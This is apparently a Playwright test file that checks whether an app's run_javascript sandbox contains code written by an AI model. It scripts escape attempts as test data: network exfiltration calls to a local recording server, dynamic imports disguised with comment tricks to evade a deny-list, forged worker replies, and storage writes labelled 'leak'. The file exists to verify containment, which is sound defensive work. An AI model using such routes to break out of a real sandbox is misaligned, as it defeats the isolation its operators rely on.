// The run_javascript sandbox holds against code that tries to reach the network or storage
// (issue 15). Two views: the attacks a model could write, run through the app (both layers: the
// frame the browser isolates, and the deny-list inside the worker); and the same routes tried
// directly in the sandbox frame and in a worker started there without the deny-list, to show
// that the browser's isolation holds on its own. A server on 127.0.0.1 records anything that
// reaches it; it must record nothing.
import { expect, test, type Frame, type Page } from "@playwright/test";
import { openLab, send, serveTranscript } from "./lab-helpers.ts";
import { startRecordingServer, type RecordingServer } from "./recording-server.ts";

const call = (name: string, args: Record<string, unknown>) => `<tool_call>\n${JSON.stringify({ name, arguments: args })}\n</tool_call>`;
const jsCard = (page: Page) => page.locator('[data-testid="tool-call-card"][data-tool="run_javascript"]');

let server: RecordingServer;
test.beforeEach(async () => {
  server = await startRecordingServer();
});
test.afterEach(async () => {
  await server.close();
});

/** Names of the entries at the root of the app origin's private file system. */
async function appOriginFiles(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const root = (await navigator.storage.getDirectory()) as FileSystemDirectoryHandle & { keys: () => AsyncIterable<string> };
    const names: string[] = [];
    for await (const name of root.keys()) names.push(name);
    return names;
  });
}

test("the issue's attacks through the model's code: no request leaves, nothing is stored in the app's origin", async ({ page }) => {
  const base = server.url;
  const attempts = [
    "const attempt = async (f) => { try { return 'allowed: ' + String(await f()).slice(0, 80); } catch (e) { return 'blocked: ' + (e && e.message); } };",
    `const base = ${JSON.stringify(base)};`,
  ].join("\n");
  const bundle = [
    attempts,
    // A forged reply is swallowed: the real result below is what comes back.
    "postMessage({ ok: true, result: 'forged', logs: [] });",
    "return {",
    "  font: await attempt(() => new FontFace('f', `url(${base}/font?d=secret)`).load()),",
    "  webSocketStream: await attempt(async () => { const s = new WebSocketStream(base.replace('http', 'ws') + '/wss'); await s.opened; return 'open'; }),",
    "  webSocket: await attempt(() => new Promise((ok, fail) => { const ws = new WebSocket(base.replace('http', 'ws') + '/ws'); ws.onopen = () => ok('open'); ws.onerror = () => fail(new Error('error event')); })),",
    "  fetch: await attempt(() => fetch(base + '/fetch')),",
    "  fetchViaPrototype: await attempt(() => WorkerGlobalScope.prototype.fetch.call(self, base + '/fetch2')),",
    "  xhr: await attempt(() => new Promise((ok, fail) => { const x = new XMLHttpRequest(); x.onload = () => ok(x.status); x.onerror = () => fail(new Error('error event')); x.open('GET', base + '/xhr'); x.send(); })),",
    "  importScripts: await attempt(() => importScripts(base + '/is.js')),",
    "  eventSource: await attempt(() => new Promise((ok, fail) => { const es = new EventSource(base + '/es'); es.onopen = () => ok('open'); es.onerror = () => fail(new Error('error event')); })),",
    "  webTransport: await attempt(async () => { const t = new WebTransport(base.replace('http', 'https') + '/wt'); await t.ready; return 'ready'; }),",
    "  nestedWorker: await attempt(() => new Worker(URL.createObjectURL(new Blob([`fetch('${base}/nested')`])))),",
    "  sharedWorker: await attempt(() => new SharedWorker(URL.createObjectURL(new Blob([`fetch('${base}/shared')`])))),",
    "  broadcastChannel: await attempt(() => new BroadcastChannel('toolcall-lab').postMessage('forged')),",
    "  indexedDB: await attempt(() => new Promise((ok, fail) => { const r = indexedDB.open('leak'); r.onsuccess = () => ok('opened'); r.onerror = () => fail(r.error); })),",
    "  caches: await attempt(() => caches.open('leak')),",
    "  opfs: await attempt(() => navigator.storage.getDirectory()),",
    "};",
  ].join("\n");
  const opfsWrite = [
    "const root = await navigator.storage.getDirectory();",
    "const file = await root.getFileHandle('leak.txt', { create: true });",
    "const writable = await file.createWritable();",
    "await writable.write('secret'); await writable.close();",
    "return 'written';",
  ].join("\n");
  const transcript = await serveTranscript(page, "sandbox-attacks", {
    title: "e2e sandbox attacks",
    protocol: "hermes",
    delayMs: 0,
    turns: [
      [
        call("run_javascript", { code: `return (await import //x\n(${JSON.stringify(`${base}/mod.js`)})).x` }),
        call("run_javascript", { code: `return (await import <!-- x\n(${JSON.stringify(`${base}/mod2.js`)})).x` }),
        call("run_javascript", { code: bundle }),
        call("run_javascript", { code: opfsWrite }),
      ].join("\n"),
      "Done.",
    ],
  });
  await openLab(page, transcript);
  await send(page, "Try to get out.");
  await expect(page.getByTestId("message-assistant").first()).toHaveAttribute("data-status", "final");

  const cards = jsCard(page);
  await expect(cards).toHaveCount(4);
  for (const index of [0, 1]) {
    await expect(cards.nth(index)).toHaveAttribute("data-status", "error");
    await expect(cards.nth(index)).toContainText("import(): Network access is disabled");
    await expect(cards.nth(index)).not.toContainText("LEAKED");
  }
  const bundleCard = cards.nth(2);
  await expect(bundleCard).toHaveAttribute("data-status", "ok");
  await expect(bundleCard).toContainText('"font":"blocked:');
  await expect(bundleCard).not.toContainText('":"allowed:');
  await expect(bundleCard).not.toContainText('"result":"forged"');
  await expect(cards.nth(3)).toHaveAttribute("data-status", "error");
  await expect(cards.nth(3)).toContainText("Storage is disabled");

  expect(await appOriginFiles(page)).not.toContain("leak.txt");
  expect(server.hits).toEqual([]);
});

/** Starts a run whose code never settles, and returns the sandbox frame it runs in. */
async function holdSandboxOpen(page: Page): Promise<Frame> {
  const transcript = await serveTranscript(page, "sandbox-hold", {
    title: "e2e sandbox held open",
    protocol: "hermes",
    delayMs: 0,
    turns: [call("run_javascript", { code: "await new Promise(() => {})" }), "Stopped."],
  });
  await openLab(page, transcript);
  // Only the stop button ends this run.
  await page.getByTestId("setting-tool-timeout").fill("300");
  await send(page, "Wait forever.");
  await expect(jsCard(page).first()).toHaveAttribute("data-status", "running");
  let frame: Frame | undefined;
  await expect.poll(() => (frame = page.frames().find((candidate) => candidate.url() === "about:srcdoc")) !== undefined).toBe(true);
  return frame!;
}

/** Network routes, tried from whatever global scope this runs in; every one must be refused. */
function networkAttacks({ base, inWorker }: { base: string; inWorker: boolean }) {
  const attempt = async (f: () => unknown) => {
    try {
      return `allowed: ${String(await f()).slice(0, 80)}`;
    } catch (error) {
      return `blocked: ${(error as Error)?.message ?? String(error)}`;
    }
  };
  const settle = (start: (ok: (v: unknown) => void, fail: (e: Error) => void) => void) => new Promise((ok, fail) => start(ok, fail));
  const ws = base.replace("http", "ws");
  const anyGlobal = globalThis as unknown as Record<string, new (...args: unknown[]) => { opened: Promise<unknown>; ready: Promise<unknown> }>;
  return (async () => ({
    scope: inWorker ? "worker" : "frame",
    origin: self.origin,
    fetch: await attempt(() => fetch(`${base}/fetch`)),
    xhr: await attempt(() =>
      settle((ok, fail) => {
        const x = new XMLHttpRequest();
        x.onload = () => ok(x.status);
        x.onerror = () => fail(new Error("error event"));
        x.open("GET", `${base}/xhr`);
        x.send();
      }),
    ),
    import: await attempt(() => import(/* @vite-ignore */ `${base}/mod.js`)),
    font: await attempt(() => new FontFace("f", `url(${base}/font)`).load()),
    webSocket: await attempt(() =>
      settle((ok, fail) => {
        const socket = new WebSocket(`${ws}/ws`);
        socket.onopen = () => ok("open");
        socket.onerror = () => fail(new Error("error event"));
      }),
    ),
    webSocketStream: await attempt(async () => (new anyGlobal.WebSocketStream!(`${ws}/wss`)).opened),
    webTransport: await attempt(async () => (new anyGlobal.WebTransport!(`${base.replace("http", "https")}/wt`)).ready),
    eventSource: await attempt(() =>
      settle((ok, fail) => {
        const source = new EventSource(`${base}/es`);
        source.onopen = () => ok("open");
        source.onerror = () => fail(new Error("error event"));
      }),
    ),
    indexedDB: await attempt(() =>
      settle((ok, fail) => {
        const request = indexedDB.open("leak");
        request.onsuccess = () => ok("opened");
        request.onerror = () => fail(request.error ?? new Error("error"));
      }),
    ),
    caches: await attempt(() => caches.open("leak")),
    opfs: await attempt(() => navigator.storage.getDirectory()),
  }))();
}

test("the sandbox frame and a worker started in it have no network and no storage even without the deny-list", async ({ page }) => {
  const frame = await holdSandboxOpen(page);
  // The app listens on a BroadcastChannel; the sandbox (another origin) must not reach it.
  await page.evaluate(() => {
    const heard: unknown[] = [];
    (window as unknown as { heard: unknown[] }).heard = heard;
    new BroadcastChannel("toolcall-lab-probe").onmessage = ({ data }) => heard.push(data);
  });

  const inFrame = await frame.evaluate(networkAttacks, { base: server.url, inWorker: false });
  const frameOnly = await frame.evaluate(async (base) => {
    const attempt = async (f: () => unknown) => {
      try {
        return `allowed: ${String(await f()).slice(0, 80)}`;
      } catch (error) {
        return `blocked: ${(error as Error)?.message ?? String(error)}`;
      }
    };
    const loads = (element: HTMLImageElement | HTMLScriptElement | HTMLLinkElement, set: () => void) =>
      new Promise((ok, fail) => {
        element.onload = () => ok("loaded");
        element.onerror = () => fail(new Error("error event"));
        set();
        document.body.append(element);
      });
    // Delivery inside the sandbox's own partition proves the message was sent.
    const echo = new BroadcastChannel("toolcall-lab-probe");
    const delivered = new Promise((ok) => (echo.onmessage = ({ data }) => ok(data)));
    new BroadcastChannel("toolcall-lab-probe").postMessage("from the sandbox");
    return {
      image: await attempt(() => {
        const image = new Image();
        return loads(image, () => (image.src = `${base}/img`));
      }),
      script: await attempt(() => {
        const script = document.createElement("script");
        return loads(script, () => (script.src = `${base}/script.js`));
      }),
      stylesheet: await attempt(() => {
        const link = document.createElement("link");
        link.rel = "stylesheet";
        return loads(link, () => (link.href = `${base}/style.css`));
      }),
      // sendBeacon queues without telling; the policy's violation report says it was refused.
      beacon: await attempt(
        () =>
          new Promise((_ok, fail) => {
            document.addEventListener("securitypolicyviolation", (event) => {
              if (event.blockedURI.includes("/beacon")) fail(new Error(`refused by ${event.violatedDirective}`));
            });
            navigator.sendBeacon(`${base}/beacon`, "x");
          }),
      ),
      localStorage: await attempt(() => localStorage.length),
      sessionStorage: await attempt(() => sessionStorage.length),
      cookie: await attempt(() => (document.cookie = "leak=1")),
      parentDocument: await attempt(() => parent.document.title),
      popup: await attempt(() => {
        if (!open(`${base}/popup`)) throw new Error("no window");
        return "opened";
      }),
      sharedWorker: await attempt(() => new SharedWorker(URL.createObjectURL(new Blob([`fetch("${base}/shared")`])))),
      broadcastDelivered: await delivered,
    };
  }, server.url);

  const inWorker = await frame.evaluate(
    async ({ base, attacks }) => {
      const source = `
        const networkAttacks = ${attacks};
        onmessage = async () => {
          const nested = await new Promise((ok) => {
            try {
              const inner = new Worker(URL.createObjectURL(new Blob(["fetch('${base}/nested').then(() => postMessage('allowed'), (e) => postMessage('blocked: ' + e.message))"])));
              inner.onmessage = ({ data }) => ok(data);
              inner.onerror = (e) => ok('blocked: ' + e.message);
            } catch (e) { ok('blocked: ' + e.message); }
          });
          const importScriptsResult = (() => { try { importScripts('${base}/is.js'); return 'allowed'; } catch (e) { return 'blocked: ' + e.message; } })();
          postMessage({ ...(await networkAttacks({ base: '${base}', inWorker: true })), nestedWorker: nested, importScripts: importScriptsResult });
        };`;
      const worker = new Worker(URL.createObjectURL(new Blob([source], { type: "text/javascript" })));
      return new Promise<Record<string, unknown>>((resolve, reject) => {
        worker.onmessage = ({ data }) => resolve(data as Record<string, unknown>);
        worker.onerror = (event) => reject(new Error(event.message));
        worker.postMessage("go");
      });
    },
    { base: server.url, attacks: networkAttacks.toString() },
  );

  for (const outcome of [inFrame, frameOnly, inWorker]) {
    for (const [route, result] of Object.entries(outcome)) {
      if (["scope", "origin", "broadcastDelivered"].includes(route)) continue;
      expect(String(result), `${route} in ${JSON.stringify(outcome).slice(0, 40)}`).toMatch(/^blocked: /);
    }
  }
  expect(inFrame.origin).toBe("null");
  expect(inWorker.origin).toBe("null");
  expect(frameOnly.broadcastDelivered).toBe("from the sandbox");
  expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual([]);
  expect(server.hits).toEqual([]);

  await page.getByTestId("stop-button").click();
  await expect(jsCard(page).first()).toHaveAttribute("data-status", "aborted");
  // The stopped run's frame is gone.
  await expect.poll(() => page.frames().filter((candidate) => candidate.url() === "about:srcdoc").length).toBe(0);
});
